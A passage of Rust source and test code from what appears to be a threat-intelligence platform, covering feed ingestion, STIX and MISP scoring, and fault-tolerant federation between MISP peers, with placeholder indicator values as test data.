        let mut platform = Platform::new(
            PlatformConfig {
                nlp_relevance_filter: true,
                ..PlatformConfig::default()
            },
            crate::context::EvaluationContext::paper_use_case(),
        );
        let now = platform.context().now;
        let threat = struts_record(now); // "remote code execution" fires
        let noise = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "pr.example.com"),
            ThreatCategory::MalwareDomain,
            "feed",
            now,
        )
        .with_description("company announces record quarterly earnings");
        let undescribed = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "bare.example.com"),
            ThreatCategory::MalwareDomain,
            "feed",
            now,
        );
        let report = platform
            .ingest_feed_records(vec![threat, noise, undescribed])
            .unwrap();
        assert_eq!(report.records_in, 3);
        assert_eq!(report.nlp_filtered, 1);
        assert_eq!(report.ciocs, 2);
    }

    #[test]
    fn stix_bundle_ingestion_scores_supported_objects() {
        use cais_stix::prelude::*;
        let mut platform = Platform::paper_use_case();
        let stamp = platform.context().now.add_days(-3);
        let bundle = Bundle::new(vec![
            Malware::builder("emotet")
                .label("trojan")
                .status("active")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            Tool::builder("snort")
                .label("network-capture")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            // Unsupported: contributes nothing.
            Campaign::builder("op-x")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
        ]);
        let scored = platform.ingest_stix_bundle(&bundle).unwrap();
        assert_eq!(scored, 2);
        assert_eq!(platform.misp().store().len(), 2);
        platform.misp().store().for_each(|event| {
            assert!(event.threat_score().is_some());
            assert!(event.published);
        });
    }

    #[test]
    fn partner_indicators_detect_live_traffic() {
        use cais_stix::prelude::*;
        let mut platform = Platform::paper_use_case();
        let detections_feed = platform.broker().subscribe("cais.detection.fired");
        let stamp = platform.context().now.add_days(-1);

        // A partner shares an indicator for a known C2 address.
        let mut builder = Indicator::builder("[ipv4-addr:value = '203.0.113.77']", stamp);
        builder
            .name("partner-c2")
            .label("malicious-activity")
            .created(stamp)
            .modified(stamp);
        let bundle = Bundle::new(vec![builder.build().into()]);
        platform.ingest_stix_bundle(&bundle).unwrap();
        assert_eq!(platform.armed_indicators(), 1);

        // Traffic from that address arrives.
        let packet = nids::Packet {
            at: platform.context().now,
            src_ip: "203.0.113.77".into(),
            dst_ip: "192.168.1.11".into(),
            dst_port: 443,
            payload: "tls".into(),
        };
        platform.ingest_packets(&[packet]);
        assert_eq!(platform.detections().len(), 1);
        assert_eq!(platform.detections()[0].indicator_name, "partner-c2");
        assert_eq!(detections_feed.drain().len(), 1);
        // The detection registered a sighting, so future scoring sees
        // infrastructure-confirmed evidence.
        assert!(platform
            .context()
            .sightings
            .has_seen(&cais_common::Observable::parse("203.0.113.77").unwrap()));
    }
}

#[cfg(test)]
mod parallel_tests {
    use super::*;
    use cais_common::{Observable, ObservableKind};
    use cais_feeds::ThreatCategory;

    fn mixed_workload(platform: &Platform, count: usize) -> Vec<FeedRecord> {
        let now = platform.context().now;
        (0..count)
            .map(|i| {
                let mut record = match i % 4 {
                    0 => FeedRecord::new(
                        Observable::new(
                            ObservableKind::Cve,
                            format!("CVE-2017-{:04}", 9000 + i % 40),
                        ),
                        ThreatCategory::VulnerabilityExploitation,
                        format!("feed-{}", i % 3),
                        now.add_days(-((i % 300) as i64)),
                    ),
                    1 => FeedRecord::new(
                        Observable::new(
                            ObservableKind::Domain,
                            format!("c2-{}.evil.example", i % 25),
                        ),
                        ThreatCategory::CommandAndControl,
                        format!("feed-{}", i % 3),
                        now.add_days(-((i % 30) as i64)),
                    ),
                    2 => FeedRecord::new(
                        Observable::new(
                            ObservableKind::Ipv4,
                            format!("203.0.{}.{}", i % 6, i % 200),
                        ),
                        ThreatCategory::Scanner,
                        format!("feed-{}", i % 3),
                        now.add_days(-((i % 10) as i64)),
                    ),
                    _ => FeedRecord::new(
                        Observable::new(
                            ObservableKind::Domain,
                            format!("phish-{}.example", i % 15),
                        ),
                        ThreatCategory::Phishing,
                        format!("feed-{}", i % 3),
                        now,
                    ),
                };
                if i % 4 == 0 {
                    record = record
                        .with_cve(format!("CVE-2017-{:04}", 9000 + i % 40))
                        .with_description("remote code execution advisory");
                }
                record
            })
            .collect()
    }

    fn config_with_filters() -> PlatformConfig {
        PlatformConfig {
            nlp_relevance_filter: true,
            warninglist_filter: true,
            ..PlatformConfig::default()
        }
    }

    #[test]
    fn parallel_matches_sequential_exactly() {
        for workers in [2, 4, 8] {
            let mut sequential =
                Platform::new(config_with_filters(), EvaluationContext::paper_use_case());
            let mut parallel =
                Platform::new(config_with_filters(), EvaluationContext::paper_use_case());
            let records = mixed_workload(&sequential, 600);
            let seq_report = sequential.ingest_feed_records(records.clone()).unwrap();
            let par_report = parallel
                .ingest_feed_records_parallel(records, workers)
                .unwrap();
            assert!(
                seq_report.same_counters(&par_report),
                "{workers} workers:\n{seq_report:?}\nvs\n{par_report:?}"
            );
            assert_eq!(sequential.eiocs(), parallel.eiocs(), "{workers} workers");
            assert_eq!(sequential.riocs(), parallel.riocs(), "{workers} workers");
            assert_eq!(
                sequential.misp().store().len(),
                parallel.misp().store().len()
            );
        }
    }

    #[test]
    fn parallel_matches_sequential_across_duplicate_rates() {
        for unique in [5usize, 50, 200] {
            let mut sequential = Platform::paper_use_case();
            let mut parallel = Platform::paper_use_case();
            let now = sequential.context().now;
            let records: Vec<FeedRecord> = (0..400)
                .map(|i| {
                    FeedRecord::new(
                        Observable::new(
                            ObservableKind::Domain,
                            format!("dup-{}.example", i % unique),
                        ),
                        ThreatCategory::MalwareDomain,
                        format!("feed-{}", i % 4),
                        now.add_days(-((i % 20) as i64)),
                    )
                })
                .collect();
            let seq_report = sequential.ingest_feed_records(records.clone()).unwrap();
            let par_report = parallel.ingest_feed_records_parallel(records, 4).unwrap();
            assert!(
                seq_report.same_counters(&par_report),
                "unique={unique}:\n{seq_report:?}\nvs\n{par_report:?}"
            );
            assert_eq!(par_report.duplicates_dropped, 400 - unique);
            assert_eq!(sequential.riocs(), parallel.riocs());
        }
    }

    #[test]
    fn parallel_shares_dedup_state_with_sequential() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        let record = || {
            FeedRecord::new(
                Observable::new(ObservableKind::Domain, "seen-once.example"),
                ThreatCategory::MalwareDomain,
                "feed",
                now,
            )
        };
        platform.ingest_feed_records(vec![record()]).unwrap();
        // The same record through the parallel path is a duplicate.
        let report = platform
            .ingest_feed_records_parallel(vec![record(), record()], 4)
            .unwrap();
        assert_eq!(report.duplicates_dropped, 2);
        assert_eq!(report.ciocs, 0);
    }

    #[test]
    fn stage_metrics_account_for_every_record() {
        let mut platform =
            Platform::new(config_with_filters(), EvaluationContext::paper_use_case());
        let records = mixed_workload(&platform, 200);
        let report = platform.ingest_feed_records(records).unwrap();
        let stages = report.stages;
        assert_eq!(stages.filter.records_in, report.records_in);
        assert_eq!(
            stages.filter.dropped,
            report.nlp_filtered + report.benign_filtered
        );
        assert_eq!(stages.dedup.records_in, stages.filter.records_out);
        assert_eq!(stages.dedup.dropped, report.duplicates_dropped);
        assert_eq!(stages.compose.records_in, stages.dedup.records_out);
        assert_eq!(stages.compose.records_out, report.ciocs);
        assert_eq!(stages.enrich.records_in, report.ciocs);
        assert_eq!(stages.enrich.records_out, report.eiocs);
        assert_eq!(stages.reduce.records_in, report.eiocs);
        assert_eq!(stages.reduce.records_out, report.riocs);
        // One bus message per cIoC, eIoC and rIoC.
        assert_eq!(
            stages.publish.records_in,
            report.ciocs + report.eiocs + report.riocs
        );
        assert!(stages.total_nanos() > 0);
    }

    #[test]
    fn parallel_publishes_the_same_bus_traffic() {
        let mut platform = Platform::paper_use_case();
        let ciocs = platform.broker().subscribe(topics::CIOC_RECEIVED);
        let eiocs = platform.broker().subscribe(topics::EIOC_READY);
        let riocs = platform.broker().subscribe(topics::RIOC_PUBLISHED);
        let records = mixed_workload(&platform, 120);
        let report = platform.ingest_feed_records_parallel(records, 4).unwrap();
        assert_eq!(ciocs.drain().len(), report.ciocs);
        assert_eq!(eiocs.drain().len(), report.eiocs);
        assert_eq!(riocs.drain().len(), report.riocs);
    }

    #[test]
    fn serial_and_parallel_yield_identical_telemetry_counters() {
        let mut sequential =
            Platform::new(config_with_filters(), EvaluationContext::paper_use_case());
        let mut parallel =
            Platform::new(config_with_filters(), EvaluationContext::paper_use_case());
        let records = mixed_workload(&sequential, 400);
        sequential.ingest_feed_records(records.clone()).unwrap();
        parallel.ingest_feed_records_parallel(records, 4).unwrap();
        // Counters (pipeline stages, bus messages, MISP mutations) are
        // deterministic outcomes and must match exactly; gauges and
        // histograms carry wall times and sampling moments, which
        // legitimately differ.
        let serial = sequential.telemetry().snapshot();
        let par = parallel.telemetry().snapshot();
        assert_eq!(serial.counters, par.counters);
        assert_ne!(serial.counters["pipeline_ciocs_total"], 0);
        assert_ne!(serial.counters["pipeline_eiocs_total"], 0);
        assert_ne!(serial.counters["bus_published_total"], 0);
        assert_ne!(serial.counters["misp_events_inserted_total"], 0);
    }

    #[test]
    fn round_records_an_ingest_span() {
        let mut platform = Platform::paper_use_case();
        let records = mixed_workload(&platform, 40);
        platform.ingest_feed_records_parallel(records, 4).unwrap();
        let spans = platform.tracer().snapshot_subsystem("pipeline");
        assert_eq!(spans.len(), 1);
        let round = &spans[0];
        assert_eq!(round.name, "ingest_round");
        assert!(round.duration_nanos.is_some());
        assert!(round
            .fields
            .iter()
            .any(|(k, v)| k == "path" && v == "parallel"));
        // The round's store inserts and bus publishes chain beneath it.
        let stores = platform.tracer().snapshot_subsystem("store");
        assert!(!stores.is_empty());
        assert!(stores
            .iter()
            .filter(|s| s.name == "store_insert")
            .all(|s| s.trace_id == round.trace_id && s.parent_id == round.span_id));
        let buses = platform.tracer().snapshot_subsystem("bus");
        assert!(buses
            .iter()
            .any(|s| s.name == "bus_publish" && s.trace_id == round.trace_id));
    }

    #[test]
    fn source_poll_roots_the_trace_above_the_round() {
        use cais_feeds::{FeedFormat, MemorySource, ResilienceConfig, ResilientSource};
        let mut platform = Platform::paper_use_case();
        let source = MemorySource::new(
            "osint-a",
            FeedFormat::Csv,
            cais_feeds::ThreatCategory::CommandAndControl,
            "value,date\nalpha.evil.example,2018-06-01T00:00:00Z\n",
        );
        let mut sources = vec![ResilientSource::new(
            Box::new(source),
            &ResilienceConfig::default(),
            7,
        )];
        platform.ingest_from_sources(&mut sources, 1).unwrap();
        let ingress = platform.tracer().snapshot_subsystem("ingress");
        assert_eq!(ingress.len(), 1);
        assert_eq!(ingress[0].name, "feed_poll");
        assert_eq!(ingress[0].parent_id, 0, "the poll is the trace root");
        let rounds = platform.tracer().snapshot_subsystem("pipeline");
        assert_eq!(rounds.len(), 1);
        assert_eq!(rounds[0].trace_id, ingress[0].trace_id);
        assert_eq!(rounds[0].parent_id, ingress[0].span_id);
    }

    #[test]
    fn single_worker_falls_back_to_sequential() {
        let mut platform = Platform::paper_use_case();
        let records = mixed_workload(&platform, 40);
        let report = platform.ingest_feed_records_parallel(records, 1).unwrap();
        assert_eq!(report.records_in, 40);
        assert!(report.ciocs > 0);
    }
}

#[cfg(test)]
mod source_ingest_tests {
    use super::*;
    use cais_common::resilience::{FaultKind, FaultPlan};
    use cais_feeds::{
        FeedFormat, FeedSource, FlakySource, MemorySource, ResilienceConfig, ResilientSource,
        ThreatCategory,
    };

    /// CSV with an explicit timestamp column: records carry no
    /// fetch-time stamp, so two independent fetches parse into
    /// byte-identical batches.
    fn memory(name: &str, values: &[&str]) -> MemorySource {
        let mut payload = String::from("value,date\n");
        for value in values {
            payload.push_str(value);
            payload.push_str(",2018-06-01T00:00:00Z\n");
        }
        MemorySource::new(
            name,
            FeedFormat::Csv,
            ThreatCategory::CommandAndControl,
            payload,
        )
    }

    fn resilient(source: impl FeedSource + 'static) -> ResilientSource {
        ResilientSource::new(Box::new(source), &ResilienceConfig::default(), 42)
    }

    #[test]
    fn faulted_sources_degrade_gracefully_and_deterministically() {
        let payload_a: &[&str] = &["alpha.evil.example", "beta.evil.example"];
        let payload_b: &[&str] = &["gamma.evil.example"];
        let payload_dead: &[&str] = &["never-seen.evil.example"];

        let build_sources = || {
            let plan = FaultPlan::new(9)
                .fail_first("feeds.transient", 2, FaultKind::Error)
                .always("feeds.dead", FaultKind::Error);
            vec![
                resilient(memory("healthy", payload_a)),
                resilient(FlakySource::scripted(
                    memory("transient", payload_b),
                    plan.clone(),
                    "feeds.transient",
                )),
                resilient(FlakySource::scripted(
                    memory("dead", payload_dead),
                    plan,
                    "feeds.dead",
                )),
            ]
        };

        // Fault-free baseline over the sources that survive: the dead
        // feed's records never existed as far as outputs are concerned.
        let mut baseline = Platform::paper_use_case();
        let mut healthy_only = vec![
            resilient(memory("healthy", payload_a)),
            resilient(memory("transient", payload_b)),
        ];
        let expected = baseline.ingest_from_sources(&mut healthy_only, 1).unwrap();
        assert_eq!(expected.delivered, 2);
        assert_eq!(expected.retries, 0);

        for workers in [1, 4] {
            let mut platform = Platform::paper_use_case();
            let mut sources = build_sources();
            let outcome = platform.ingest_from_sources(&mut sources, workers).unwrap();
            assert_eq!(outcome.delivered, 2, "{workers} workers");
            assert_eq!(outcome.failed, 1, "{workers} workers");
            assert!(outcome.retries >= 2, "{workers} workers");
            assert!(
                outcome.report.same_counters(&expected.report),
                "{workers} workers:\n{:?}\nvs\n{:?}",
                outcome.report,
                expected.report
            );
            assert_eq!(platform.eiocs(), baseline.eiocs(), "{workers} workers");
            assert_eq!(platform.riocs(), baseline.riocs(), "{workers} workers");
        }
    }

    #[test]
    fn repeated_rounds_quarantine_a_dead_source() {
        let plan = FaultPlan::new(3).always("feeds.dead", FaultKind::Error);
        let config = ResilienceConfig::default();
        let mut sources = vec![ResilientSource::new(
            Box::new(FlakySource::scripted(
                memory("dead", &["x.example"]),
                plan,
                "feeds.dead",
            )),
            &config,
            42,
        )];
        let mut platform = Platform::paper_use_case();
        // Default breaker trips after 3 consecutive failed rounds.
        for _ in 0..3 {
            let outcome = platform.ingest_from_sources(&mut sources, 1).unwrap();
            assert_eq!(outcome.failed, 1);
        }
        let outcome = platform.ingest_from_sources(&mut sources, 1).unwrap();
        assert_eq!(outcome.quarantined, 1);
        assert!(sources[0].is_quarantined());
    }
}

#[cfg(test)]
mod warninglist_tests {
    use super::*;
    use cais_common::{Observable, ObservableKind};
    use cais_feeds::ThreatCategory;

    #[test]
    fn warninglist_filter_drops_known_benign_values() {
        let mut platform = Platform::new(
            PlatformConfig {
                warninglist_filter: true,
                ..PlatformConfig::default()
            },
            crate::context::EvaluationContext::paper_use_case(),
        );
        let now = platform.context().now;
        let make = |kind, value: &str| {
            FeedRecord::new(
                Observable::new(kind, value),
                ThreatCategory::CommandAndControl,
                "feed",
                now,
            )
        };
        let report = platform
            .ingest_feed_records(vec![
                make(ObservableKind::Ipv4, "10.0.0.7"),         // private
                make(ObservableKind::Ipv4, "8.8.8.8"),          // resolver
                make(ObservableKind::Domain, "foo.test"),       // reserved TLD
                make(ObservableKind::Ipv4, "45.33.12.7"),       // genuine
                make(ObservableKind::Domain, "real-threat.ru"), // genuine
            ])
            .unwrap();
        assert_eq!(report.records_in, 5);
        assert_eq!(report.benign_filtered, 3);
        assert_eq!(report.ciocs, 2);
    }

    #[test]
    fn filter_off_passes_everything() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Ipv4, "10.0.0.7"),
            ThreatCategory::CommandAndControl,
            "feed",
            now,
        );
        let report = platform.ingest_feed_records(vec![record]).unwrap();
        assert_eq!(report.benign_filtered, 0);
        assert_eq!(report.ciocs, 1);
    }
}
