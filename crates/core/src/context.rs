//! The infrastructure context the heuristic engine evaluates against.
//!
//! "This assessment will complement the usage of static information
//! about the monitored infrastructure with dynamic and real-time threat
//! intelligence data reported from inside the own monitored
//! infrastructure" (Section II-A). The context bundles exactly those
//! two halves: the static inventory and CVE knowledge, and the dynamic
//! alarms and sightings.

use std::sync::Arc;

use cais_common::{Observable, Timestamp};
use cais_cvss::CveDatabase;
use cais_infra::{Alarm, Inventory, SightingStore};

/// Everything the Heuristic Component consults while scoring.
#[derive(Clone)]
pub struct EvaluationContext {
    /// The system inventory (static).
    pub inventory: Arc<Inventory>,
    /// The local CVE knowledge base (static).
    pub cve_db: Arc<CveDatabase>,
    /// Internally-sighted observables (dynamic).
    pub sightings: Arc<SightingStore>,
    /// Current alarms (dynamic).
    pub alarms: Arc<parking_lot::RwLock<Vec<Alarm>>>,
    /// The evaluation instant ("now" for Timeliness buckets).
    pub now: Timestamp,
}

impl EvaluationContext {
    /// Creates a context around shared infrastructure state.
    pub fn new(
        inventory: Arc<Inventory>,
        cve_db: Arc<CveDatabase>,
        sightings: Arc<SightingStore>,
        now: Timestamp,
    ) -> Self {
        EvaluationContext {
            inventory,
            cve_db,
            sightings,
            alarms: Arc::new(parking_lot::RwLock::new(Vec::new())),
            now,
        }
    }

    /// A context for the paper's use case: Table III inventory, the
    /// synthetic CVE database (which always contains CVE-2017-9805) and
    /// empty dynamic state, evaluated at 2018-06-01 — a date inside the
    /// use case's one-year validity window, reproducing the printed
    /// feature values.
    pub fn paper_use_case() -> Self {
        EvaluationContext::new(
            Arc::new(Inventory::paper_table3()),
            Arc::new(CveDatabase::synthetic(0, 200)),
            Arc::new(SightingStore::new()),
            Timestamp::from_ymd_hms(2018, 6, 1, 0, 0, 0),
        )
    }

    /// Replaces the evaluation instant, builder-style.
    pub fn at(mut self, now: Timestamp) -> Self {
        self.now = now;
        self
    }

    /// Records an alarm into the dynamic state.
    pub fn push_alarm(&self, alarm: Alarm) {
        self.alarms.write().push(alarm);
    }

    /// Whether any current alarm involves the given application.
    pub fn alarm_involves_application(&self, applications: &[String]) -> bool {
        let alarms = self.alarms.read();
        alarms.iter().any(|alarm| {
            alarm
                .application
                .as_ref()
                .is_some_and(|app| applications.iter().any(|a| a.eq_ignore_ascii_case(app)))
        })
    }

    /// Whether the infrastructure has ever sighted the observable.
    pub fn seen_internally(&self, observable: &Observable) -> bool {
        self.sightings.has_seen(observable)
    }
}

impl std::fmt::Debug for EvaluationContext {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EvaluationContext")
            .field("nodes", &self.inventory.len())
            .field("cves", &self.cve_db.len())
            .field("sightings", &self.sightings.distinct_observables())
            .field("alarms", &self.alarms.read().len())
            .field("now", &self.now)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::ObservableKind;
    use cais_infra::{AlarmSeverity, NodeId};

    #[test]
    fn paper_context_shape() {
        let ctx = EvaluationContext::paper_use_case();
        assert_eq!(ctx.inventory.len(), 4);
        assert!(ctx.cve_db.len() >= 200);
        assert_eq!(ctx.now, Timestamp::from_ymd_hms(2018, 6, 1, 0, 0, 0));
    }

    #[test]
    fn alarm_application_matching() {
        let ctx = EvaluationContext::paper_use_case();
        assert!(!ctx.alarm_involves_application(&["apache struts".to_owned()]));
        ctx.push_alarm(
            Alarm::new(
                1,
                NodeId(4),
                AlarmSeverity::High,
                "203.0.113.9",
                "192.168.1.14",
                "struts probe",
                "suricata",
                ctx.now,
            )
            .with_application("Apache Struts"),
        );
        assert!(ctx.alarm_involves_application(&["apache struts".to_owned()]));
        assert!(!ctx.alarm_involves_application(&["gitlab".to_owned()]));
    }

    #[test]
    fn sighting_lookup() {
        let ctx = EvaluationContext::paper_use_case();
        let c2 = Observable::new(ObservableKind::Ipv4, "203.0.113.9");
        assert!(!ctx.seen_internally(&c2));
        ctx.sightings.record(&c2, ctx.now, None, "suricata");
        assert!(ctx.seen_internally(&c2));
    }
}
