//! The headline property: under any seed, any topology and any mix of
//! *transient* faults, every peer converges to the byte-identical
//! policy-filtered fixpoint — compared against a fault-free oracle run
//! of the same schedule — with zero cross-tenant leaks and zero
//! duplicates after replays and lost acks.
//!
//! Transience is the hypothesis that makes the theorem true: a
//! `fail_first` site exhausts, after which every edge's cursor catches
//! its source generation in finitely many rounds. (A permanently
//! partitioned link — `always` — legitimately never converges; see
//! `permanent_partition_never_converges` below.)

use cais_common::resilience::{FaultKind, FaultPlan};
use cais_common::Uuid;
use cais_federation::{FederationHarness, Tenant, Topology};
use cais_misp::event::Distribution;
use cais_misp::{AttributeCategory, MispAttribute, MispEvent};
use proptest::prelude::*;

const MAX_ROUNDS: u32 = 64;

/// The transient fault alphabet the mix samples from.
const TRANSIENT_KINDS: [FaultKind; 6] = [
    FaultKind::Error,
    FaultKind::Garbage,
    FaultKind::Truncate,
    FaultKind::Replay,
    FaultKind::AckLost,
    FaultKind::Delay(25),
];

fn tenants(n: usize) -> Vec<Tenant> {
    (0..n)
        .map(|i| Tenant::new(format!("org-{i}"), Vec::<String>::new()))
        .collect()
}

/// A deterministic broadcast event: the UUID derives from the label so
/// the chaos run and its oracle seed byte-identical content.
fn broadcast_event(label: &str) -> MispEvent {
    let mut event = MispEvent::new(format!("intel {label}"));
    event.uuid = Uuid::new_v5(label);
    // Deterministic creation date: the canonical view carries `date`,
    // and the oracle run is constructed milliseconds after the chaos
    // run — wall-clock dates would differ across runs (never across
    // peers, which copy the wire value verbatim).
    event.date = cais_common::Timestamp::from_ymd_hms(2026, 8, 9, 0, 0, 0);
    event.distribution = Distribution::AllCommunities;
    let mut attribute = MispAttribute::new(
        "domain",
        AttributeCategory::NetworkActivity,
        format!("{label}.example"),
    );
    attribute.uuid = Uuid::new_v5(&format!("attr:{label}"));
    event.add_attribute(attribute);
    event
}

/// Builds a harness, seeds `events` round-robin across peers, runs to
/// quiescence and returns (harness, converged).
fn run(
    topology: Topology,
    n: usize,
    events: usize,
    faults: FaultPlan,
    case: u64,
) -> (FederationHarness, bool) {
    let mut harness = FederationHarness::in_proc(topology, tenants(n), faults);
    for e in 0..events {
        harness
            .seed_event(e % n, broadcast_event(&format!("case-{case}-ev-{e}")))
            .unwrap();
    }
    let report = harness.run_until_quiescent(MAX_ROUNDS);
    (harness, report.converged)
}

proptest! {
    /// seed × topology × peer count × fault mix: the federation always
    /// reaches the identical fixpoint the fault-free oracle reaches.
    #[test]
    fn chaos_converges_to_the_oracle_fixpoint(
        seed in 0u64..1_000_000,
        topology in prop::sample::select(vec![
            Topology::HubSpoke,
            Topology::Mesh,
            Topology::Ring,
        ]),
        n in 3usize..=6,
        events in 1usize..=3,
        // Up to four transiently-faulted edges: (edge pick, fault
        // pick, how many calls fail before recovery).
        mix in prop::collection::vec((0usize..64, 0usize..6, 1u64..=4), 0..4),
    ) {
        // Script the sampled mix onto real edge sites.
        let edges = topology.edges(n);
        let mut faults = FaultPlan::new(seed);
        for &(edge_pick, kind_pick, count) in &mix {
            let (src, dst) = edges[edge_pick % edges.len()];
            let site = cais_federation::edge_site(topology, src, dst);
            faults = faults.fail_first(&site, count, TRANSIENT_KINDS[kind_pick]);
        }

        let (chaos, converged) = run(topology, n, events, faults, seed);
        prop_assert!(converged, "no quiescence in {MAX_ROUNDS} rounds \
                     (seed {seed}, {topology}, n={n})");

        // Zero cross-tenant leaks, ever.
        prop_assert!(chaos.leaks().is_empty(), "leaks: {:?}", chaos.leaks());

        // Zero duplicates: every peer holds exactly the seeded events,
        // once each, whatever was replayed or re-sent after a lost ack.
        for peer in 0..n {
            prop_assert_eq!(chaos.stored_uuids(peer).len(), events);
            prop_assert_eq!(chaos.peer(peer).api().store().len(), events);
        }

        // The fixpoint is path-independent: byte-identical to a
        // fault-free oracle run of the same schedule, peer by peer.
        let (oracle, oracle_converged) = run(topology, n, events, FaultPlan::healthy(), seed);
        prop_assert!(oracle_converged);
        let chaos_views = chaos.canonical_views();
        let oracle_views = oracle.canonical_views();
        for peer in 0..n {
            prop_assert_eq!(
                String::from_utf8_lossy(&chaos_views[peer]),
                String::from_utf8_lossy(&oracle_views[peer]),
                "peer {} diverged from oracle (seed {}, {}, n={})",
                peer, seed, topology, n
            );
        }

        // And since every tenant has equal rights here, all peers
        // agree with each other too.
        prop_assert!(chaos.views_identical());
    }
}

/// The hypothesis matters: a permanently dead link (non-transient
/// fault) must *not* report convergence.
#[test]
fn permanent_partition_never_converges() {
    let topology = Topology::Ring;
    let site = cais_federation::edge_site(topology, 0, 1);
    let faults = FaultPlan::new(3).always(&site, FaultKind::Error);
    let mut harness = FederationHarness::in_proc(topology, tenants(3), faults);
    harness.seed_event(0, broadcast_event("stuck")).unwrap();
    let report = harness.run_until_quiescent(12);
    assert!(!report.converged);
    assert!(!harness.stored_uuids(1).contains(&Uuid::new_v5("stuck")));
}
