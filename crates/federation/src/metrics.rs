//! The `federation_*` metric family.
//!
//! One [`FederationMetrics`] handle is shared by the harness, the
//! clients (send side) and the peers (apply side), so a registry
//! snapshot shows the whole federation's traffic. The dashboard's
//! federation panel groups on this prefix.

use cais_telemetry::{Counter, Gauge, Registry};

/// Cached counter/gauge handles for an instrumented federation.
#[derive(Debug, Clone)]
pub struct FederationMetrics {
    /// Sync rounds driven by the harness.
    pub rounds: Counter,
    /// Push frames sent (after chunking), including retried frames.
    pub push_frames: Counter,
    /// Push frames that failed delivery (injected faults, transport
    /// errors) and were left for a retry or the next round.
    pub push_failures: Counter,
    /// Delivery retries spent across all edges.
    pub retries: Counter,
    /// Events sent inside push frames.
    pub events_sent: Counter,
    /// Events inserted on receivers (first delivery).
    pub events_inserted: Counter,
    /// Events merged on receivers (new attributes/tags/distribution).
    pub events_merged: Counter,
    /// Events confirmed unchanged on receivers (idempotent replays).
    pub events_unchanged: Counter,
    /// Events a receiver's own tenant policy refused — leak attempts.
    pub events_rejected: Counter,
    /// Events withheld sender-side by tenant policy.
    pub withheld_policy: Counter,
    /// Events withheld by the distribution hop gate.
    pub withheld_distribution: Counter,
    /// Peers currently served by the harness.
    pub peers: Gauge,
    /// Round at which the last run reached quiescence (0 = not yet).
    pub converged_round: Gauge,
}

impl FederationMetrics {
    /// Interns the family's handles in `registry`.
    pub fn new(registry: &Registry) -> Self {
        FederationMetrics {
            rounds: registry.counter("federation_rounds_total"),
            push_frames: registry.counter("federation_push_frames_total"),
            push_failures: registry.counter("federation_push_failures_total"),
            retries: registry.counter("federation_retries_total"),
            events_sent: registry.counter("federation_events_sent_total"),
            events_inserted: registry.counter("federation_events_inserted_total"),
            events_merged: registry.counter("federation_events_merged_total"),
            events_unchanged: registry.counter("federation_events_unchanged_total"),
            events_rejected: registry.counter("federation_events_rejected_total"),
            withheld_policy: registry.counter("federation_withheld_policy_total"),
            withheld_distribution: registry.counter("federation_withheld_distribution_total"),
            peers: registry.gauge("federation_peers"),
            converged_round: registry.gauge("federation_converged_round"),
        }
    }
}
