//! One federated MISP instance served over framed TCP.
//!
//! A [`FederationPeer`] wraps a [`MispApi`] with the peer's tenant
//! identity, the shared [`SharingPolicy`], and the federation apply
//! path, and exposes itself as a [`FrameService`] on the multiplexed
//! serving core ([`cais_common::serve`]) — the same core TAXII and the
//! telemetry endpoint ride.
//!
//! Incoming pushes run the exact apply path in-proc sync uses
//! ([`cais_misp::sync::apply_remote`]): the hop downgrade applies once
//! per frame and the store joins duplicates idempotently. On top of
//! that the peer re-checks every incoming event against its *own*
//! tenant policy (defense in depth — a buggy or hostile sender cannot
//! plant out-of-policy intelligence) and tallies refusals as
//! `rejected` in the ack and `federation_events_rejected_total`.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;

use cais_common::frame::TraceHeader;
use cais_common::serve::{self, FrameService, Outbox, ServeConfig, ServeHandle, ServeMetrics};
use cais_misp::sync::{self, ApplyOutcome};
use cais_misp::MispApi;
use cais_telemetry::{Registry, TraceContext, Tracer};
use parking_lot::RwLock;

use crate::metrics::FederationMetrics;
use crate::policy::SharingPolicy;
use crate::wire::{self, FedRequest, FedResponse};

/// One tenant's MISP instance, servable as a federation endpoint.
#[derive(Clone)]
pub struct FederationPeer {
    api: Arc<MispApi>,
    policy: Arc<RwLock<SharingPolicy>>,
    metrics: Arc<RwLock<Option<FederationMetrics>>>,
}

impl FederationPeer {
    /// Creates a peer for `org`, sharing the federation's policy
    /// handle. The peer's MISP org doubles as its tenant identity.
    pub fn new(org: impl Into<String>, policy: Arc<RwLock<SharingPolicy>>) -> Self {
        FederationPeer {
            api: Arc::new(MispApi::new(org)),
            policy,
            metrics: Arc::new(RwLock::new(None)),
        }
    }

    /// The tenant's organization name.
    pub fn org(&self) -> String {
        self.api.org().to_owned()
    }

    /// The underlying MISP instance.
    pub fn api(&self) -> &Arc<MispApi> {
        &self.api
    }

    /// The shared policy handle.
    pub fn policy(&self) -> &Arc<RwLock<SharingPolicy>> {
        &self.policy
    }

    /// Attaches the `federation_*` metric family (plus the MISP store
    /// and share families of the wrapped instance).
    pub fn instrument(&self, registry: &Registry) {
        self.api.instrument(registry);
        *self.metrics.write() = Some(FederationMetrics::new(registry));
    }

    /// Attaches a causal tracer: incoming push frames carrying a trace
    /// header chain their apply spans onto the sender's span.
    pub fn set_tracer(&self, tracer: &Tracer) {
        self.api.set_tracer(tracer);
    }

    fn metrics(&self) -> Option<FederationMetrics> {
        self.metrics.read().clone()
    }

    /// Handles one decoded request — shared by the TCP service and any
    /// in-proc caller (the harness oracle mode drives this directly,
    /// so oracle and wire runs exercise identical apply logic).
    pub fn handle(&self, request: &FedRequest, wire_trace: Option<TraceContext>) -> FedResponse {
        match request {
            FedRequest::Status => FedResponse::Status {
                org: self.org(),
                events: self.api.store().len(),
                generation: self.api.store().generation(),
            },
            FedRequest::Push {
                from_org: _,
                events,
            } => {
                let metrics = self.metrics();
                let mut span = self
                    .api
                    .tracer()
                    .map(|t| t.child_of(wire_trace, "federation", "fed_apply"));
                let parent = span.as_ref().filter(|s| s.sampled()).map(|s| s.context());
                let own_org = self.org();
                let (mut inserted, mut merged, mut unchanged, mut withheld, mut rejected) =
